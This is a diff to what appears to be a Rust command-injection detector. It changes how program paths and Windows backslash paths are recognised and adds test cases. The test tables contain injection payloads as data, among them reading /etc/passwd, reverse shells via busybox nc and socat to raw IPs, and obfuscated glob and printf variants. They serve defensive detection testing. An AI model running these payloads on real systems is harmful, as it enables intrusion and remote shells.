@@ -202,7 +202,7 @@ fn plain_unknown_word(text: &[u8]) -> bool {
     }
     if !matches!(
         text.get(length),
-        None | Some(b' ' | b'\t' | b'\r' | b'\n' | b',' | b'.' | b'!' | b'?' | b':' | b';')
+        None | Some(b' ' | b'\t' | b'\r' | b'\n' | b',' | b'.' | b'!' | b'?' | b';')
     ) {
         return false;
     }
@@ -240,6 +240,34 @@ fn skip_blanks(text: &[u8], mut at: usize) -> usize {
     at
 }
 
+/// Whether `path` names a program the way a command does: a bare name, or a name in a directory that holds
+/// programs (`/bin/id`, `./x`, `C:\Windows\System32\cmd.exe`). A name under the root alone (`/whoami`) is a
+/// URL path, not a program: no system keeps programs there.
+fn in_program_directory(path: &[u8]) -> bool {
+    let Some(slash) = path.iter().rposition(|b| matches!(b, b'/' | b'\\')) else { return true };
+    let directory = &path[..slash];
+    let normalized = directory.iter().map(|b| if *b == b'\\' { b'/' } else { *b });
+    const PROGRAM_DIRECTORIES: &[&[u8]] = &[
+        b".",
+        b"~",
+        b"/bin",
+        b"/sbin",
+        b"/usr/bin",
+        b"/usr/sbin",
+        b"/usr/local/bin",
+        b"/usr/local/sbin",
+        b"/system/bin",
+        b"/windows/system32",
+        b"c:/windows/system32",
+        b"c:/windows",
+        b"%windir%/system32",
+        b"%systemroot%/system32",
+    ];
+    PROGRAM_DIRECTORIES
+        .iter()
+        .any(|known| known.len() == directory.len() && known.iter().copied().eq(normalized.clone()))
+}
+
 /// The part of a path after its last `/` or `\`, without `.exe`.
 fn basename(path: &[u8]) -> &[u8] {
     let name = match path.iter().rposition(|b| matches!(b, b'/' | b'\\')) {
@@ -268,6 +296,9 @@ impl Word {
         let mut word =
             Word { bytes: [0; MAX_WORD], length: 0, start: at, end: at, glob: false, assignment: None };
         let mut i = at;
+        // In a Windows path (`C:\Windows\...`, `%windir%\...`) a backslash separates; elsewhere it escapes.
+        let windows_path = matches!(&text[at.min(text.len())..], [drive, b':', b'\\', ..] if drive.is_ascii_alphabetic())
+            || text.get(at) == Some(&b'%');
         while let Some(&byte) = text.get(i) {
             match byte {
                 b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' | b'`'
@@ -286,6 +317,10 @@ impl Word {
                 // An escaped quote or backquote is read as itself: payloads arrive escaped once more than
                 // needed.
                 b'\\' if matches!(text.get(i + 1), Some(b'\'' | b'"' | b'`')) => i += 1,
+                b'\\' if windows_path => {
+                    word.push(byte)?;
+                    i += 1;
+                }
                 b'\\' => {
                     match text.get(i + 1) {
                         Some(b'\n') | None => {}
@@ -350,7 +385,7 @@ impl Word {
     fn program(&self) -> Option<&[u8]> {
         let word = self.head();
         if !self.glob {
-            return Some(basename(word));
+            return in_program_directory(word).then(|| basename(word));
         }
         if word.first() != Some(&b'/') {
             return None;
@@ -520,6 +555,8 @@ mod tests {
             ("a;/???/??t /???/p??s??", Shape::Separated),
             ("x;$(printf '\\x69\\x64')", Shape::Substitution),
             ("x;${PATH:0:1}bin${PATH:0:1}id", Shape::Separated),
+            ("a;/usr/bin/whoami", Shape::Separated),
+            ("a & C:\\Windows\\System32\\cmd.exe /c dir", Shape::Separated),
             ("a;cat${IFS}/etc/passwd", Shape::Separated),
             ("a && busybox nc 10.0.0.1 4444", Shape::Separated),
             ("a | socat tcp:1.2.3.4:80 exec:sh", Shape::Separated),
@@ -574,6 +611,8 @@ mod tests {
             "Use `ls` to list files",
             "The cat sat on the mat",
             "ID card lost",
+            "/whoami",
+            "/api/env",
             "ash, I then looked round",
             "for two years; at\r\nonce",
             "SET 8 -MINI AS",
